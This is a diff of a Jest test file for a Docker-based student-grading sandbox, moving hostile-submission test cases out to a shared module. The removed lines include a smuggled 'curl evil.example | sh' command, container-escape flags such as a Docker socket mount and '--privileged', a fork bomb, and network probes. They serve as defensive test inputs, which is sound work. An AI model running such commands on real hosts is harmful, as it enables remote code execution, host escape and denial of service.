@@ -1,12 +1,14 @@
 import { InfrastructureError, RejectedInputError } from '@kadai/errors';
 import { randomUUID } from 'node:crypto';
-import { createServer, type AddressInfo } from 'node:net';
 import { leftovers, reap, runsOnEngine } from '@kadai/grader-docker';
-import { HOSTILE_COMPOSE, HOSTILE_DOCKERFILES } from './hostile-cases';
+import { HOSTILE_COMPOSE, HOSTILE_DOCKERFILES, HOSTILE_RUN_LINES } from './hostile-cases';
 import { files, gradeOnce, log, makeLab, rejection, testGrader } from './support';
 
-// Hostile submissions against the real engine: each is rejected before anything runs (naming file,
-// line and field) or contained by the sandbox, and nothing labelled with its submission id is left.
+// Hostile submissions against the real engine, at the grader's level: each is rejected by the
+// worker's own validation and grade before anything runs (naming file, line and field; the api
+// refuses the same cases first, hostile-api.test.ts), and nothing labelled with its submission id is
+// left. What only running shows (fork bombs, memory, CPU, logs, network) is proven through the api and
+// the worker in hostile-api.test.ts and limits.test.ts.
 jest.setTimeout(180_000);
 const grader = testGrader();
 
@@ -36,18 +38,8 @@ describe('rejected before anything runs', () => {
     expect(left).toEqual([]);
   });
 
-  const runCases: Array<[string, string, RegExp]> = [
-    ['privileged', 'docker run -d --privileged busybox:1.36 sleep 60', /^run\.txt:1 --privileged: /],
-    ['Docker socket', 'docker run -d -v /var/run/docker.sock:/var/run/docker.sock busybox:1.36', /^run\.txt:1 -v: mounting the Docker socket/],
-    ['host root bind', 'docker run -d -v /:/host busybox:1.36', /^run\.txt:1 -v: bind mounts/],
-    ['host network', 'docker run -d --network=host busybox:1.36', /^run\.txt:1 --network: /],
-    ['host pid', 'docker run -d --pid host busybox:1.36', /^run\.txt:1 --pid: /],
-    ['cap_add', 'docker run -d --cap-add=NET_ADMIN busybox:1.36', /^run\.txt:1 --cap-add: /],
-    ['devices', 'docker run -d --device /dev/kvm busybox:1.36', /^run\.txt:1 --device: /],
-    ['a shell', 'docker run -d busybox:1.36; curl evil.example | sh', /^run\.txt:1 : shell operators/],
-  ];
-  it.each(runCases)('docker run: %s', async (_name, line, expected) => {
-    const issues = await rejection(grader, runLab([{ type: 'container' }]), files({ 'run.txt': line }));
+  it.each(HOSTILE_RUN_LINES)('docker run: %s', async (_name, entries, expected) => {
+    const issues = await rejection(grader, runLab([{ type: 'container' }]), files(entries));
     expect(issues[0]).toMatch(expected);
   });
 });
@@ -86,112 +78,7 @@ it('${VAR} in a Compose file gets nothing from the environment of the worker', a
   }
 });
 
-describe('contained at run time (a failed check, never an infrastructure error)', () => {
-  it('a fork bomb stops at the pids limit', async () => {
-    const lab = runLab([{ type: 'logs', contains: 'still here', timeoutSeconds: 30 }]);
-    const { results, error, left } = await gradeOnce(grader, lab, files({ 'run.txt': `docker run -d busybox:1.36 sh -c 'f(){ f | f & }; f; sleep 2; echo still here; sleep 60'` }));
-    expect(error).toBeUndefined();
-    // the shell that started the bomb keeps going: the bomb hit the container's pids limit, not the machine's
-    expect(results?.[0]?.status).toBe('pass');
-    expect(left).toEqual([]);
-  });
-
-  it('a memory hog is OOM-killed and reported as the student failure', async () => {
-    const lab = runLab([{ type: 'container' }]);
-    const { results, error, left } = await gradeOnce(grader, lab, files({ 'run.txt': `docker run -d python:3.10-slim python3 -c "b = bytearray(1024 * 1024 * 1024); import time; time.sleep(60)"` }));
-    expect(error).toBeUndefined();
-    expect(results?.[0]).toMatchObject({ status: 'fail' });
-    expect(results?.[0]?.evidence).toMatch(/OOM/);
-    expect(left).toEqual([]);
-  });
-
-  it('an endless loop is limited to its CPU share and ends with the attempt', async () => {
-    const lab = runLab([{ type: 'http', port: 80, timeoutSeconds: 3 }]);
-    const { results, error, left, ms } = await gradeOnce(grader, lab, files({ 'run.txt': `docker run -d busybox:1.36 sh -c 'while :; do :; done'` }));
-    expect(error).toBeUndefined();
-    expect(results?.[0]?.status).toBe('fail');
-    expect(ms).toBeLessThan(30_000);
-    expect(left).toEqual([]);
-  });
-
-  it('100 MB of log output is capped by the engine and in the evidence', async () => {
-    const lab = runLab([{ type: 'logs', contains: 'never printed', timeoutSeconds: 4 }]);
-    const { results, error, left } = await gradeOnce(grader, lab, files({ 'run.txt': `docker run -d busybox:1.36 sh -c 'yes 0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz | head -c 104857600; sleep 60'` }));
-    expect(error).toBeUndefined();
-    expect(results?.[0]?.status).toBe('fail');
-    expect(Buffer.byteLength(results?.[0]?.evidence ?? '')).toBeLessThanOrEqual(16 * 1024);
-    expect(left).toEqual([]);
-  });
-
-  it('has no egress at run time and cannot reach the host, but services reach each other', async () => {
-    // a service on the host, listening on every address (like a database or a kubelet would)
-    const server = createServer((socket) => socket.end('host service\n'));
-    await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', resolve));
-    const hostPort = (server.address() as AddressInfo).port;
-    const script = [
-      'wget -T 3 -q -O- http://deb.debian.org/ >/dev/null 2>&1 && echo EGRESS-OPEN || echo EGRESS-BLOCKED',
-      'wget -T 3 -q -O- http://1.1.1.1/ >/dev/null 2>&1 && echo IP-OPEN || echo IP-BLOCKED',
-      `gw=$(ip route | awk '/default/ {print $3}'); echo | nc -w 3 $gw ${hostPort} 2>/dev/null | grep -q host && echo HOST-OPEN || echo HOST-BLOCKED`,
-      'wget -T 3 -q -O- http://web/ >/dev/null && echo PEER-OK',
-      'sleep 60',
-    ].join('; ');
-    // $ is Compose's interpolation: $$ is a literal $ for the container's shell
-    const compose = `services:\n  app:\n    image: busybox:1.36\n    command: ${JSON.stringify(['sh', '-c', script.split('$').join('$$')])}\n  web:\n    image: nginx:1.21\n`;
-    const lab = makeLab({ input: 'compose' }, ['EGRESS-BLOCKED', 'IP-BLOCKED', 'HOST-BLOCKED', 'PEER-OK'].map((line) => ({ type: 'logs', service: 'app', contains: line, timeoutSeconds: 20 })));
-    try {
-      const { results, error, left } = await gradeOnce(grader, lab, files({ 'compose.yaml': compose }));
-      expect(error).toBeUndefined();
-      expect(results?.map((r) => `${r.status} ${r.evidence?.split('\n')[0] ?? ''}`)).toEqual(results?.map((r) => `pass ${r.evidence?.split('\n')[0] ?? ''}`));
-      expect(left).toEqual([]);
-    } finally {
-      server.close();
-    }
-  });
-});
-
-describe('contained at build time', () => {
-  it('a fork bomb in RUN stops at the build pids limit and fails the build', async () => {
-    const lab = makeLab({ input: 'build', ports: [80] }, [{ type: 'build' }]);
-    const dockerfile = `FROM busybox:1.36\nRUN sh -c 'f(){ f | f & }; f; sleep 3; exit 1'\n`;
-    const { results, error, left } = await gradeOnce(grader, lab, files({ Dockerfile: dockerfile }));
-    expect(error).toBeUndefined();
-    expect(results?.[0]?.status).toBe('fail');
-    expect(results?.[0]?.message.en).toMatch(/stopped at the process limit \(1024 processes/);
-    expect(left).toEqual([]);
-  });
-
-  it('RUN steps reach package mirrors but not the host', async () => {
-    const server = createServer((socket) => socket.end('host service\n'));
-    await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', resolve));
-    const hostPort = (server.address() as AddressInfo).port;
-    const lab = makeLab({ input: 'build', ports: [80] }, [{ type: 'build' }]);
-    const dockerfile = [
-      'FROM busybox:1.36',
-      'RUN wget -T 10 -q -O- http://deb.debian.org/debian/ >/dev/null && echo MIRROR-OK',
-      `RUN gw=$(ip route | awk '/default/ {print $3}'); if echo | nc -w 3 $gw ${hostPort} | grep -q host; then echo HOST-OPEN; exit 7; fi; echo HOST-BLOCKED`,
-    ].join('\n');
-    try {
-      const { results, error, left } = await gradeOnce(grader, lab, files({ Dockerfile: `${dockerfile}\n` }));
-      expect(error).toBeUndefined();
-      expect(`${results?.[0]?.status} ${results?.[0]?.message.en}`).toMatch(/^pass /);
-      expect(left).toEqual([]);
-    } finally {
-      server.close();
-    }
-  });
-
-  it('a build that never ends stops at the build time limit', async () => {
-    const quick = testGrader({ buildTimeoutMs: 5000 });
-    const lab = makeLab({ input: 'build', ports: [80] }, [{ type: 'build' }, { type: 'http', port: 80, timeoutSeconds: 2 }]);
-    const { results, error, left, ms } = await gradeOnce(quick, lab, files({ Dockerfile: 'FROM busybox:1.36\nRUN sleep 600\n' }));
-    expect(error).toBeUndefined();
-    expect(results?.[0]).toMatchObject({ status: 'fail' });
-    expect(results?.[0]?.message.en).toMatch(/did not finish within 5 s/);
-    expect(results?.[1]?.status).toBe('skipped');
-    expect(ms).toBeLessThan(30_000);
-    expect(left).toEqual([]);
-  });
-
+describe('build contexts', () => {
   it('a build context over the lab limit is rejected before it is sent to the engine', async () => {
     const lab = makeLab({ input: 'build', ports: [80] }, [{ type: 'build' }]);
     const huge = Buffer.alloc(30 * 1024 * 1024, 'x');
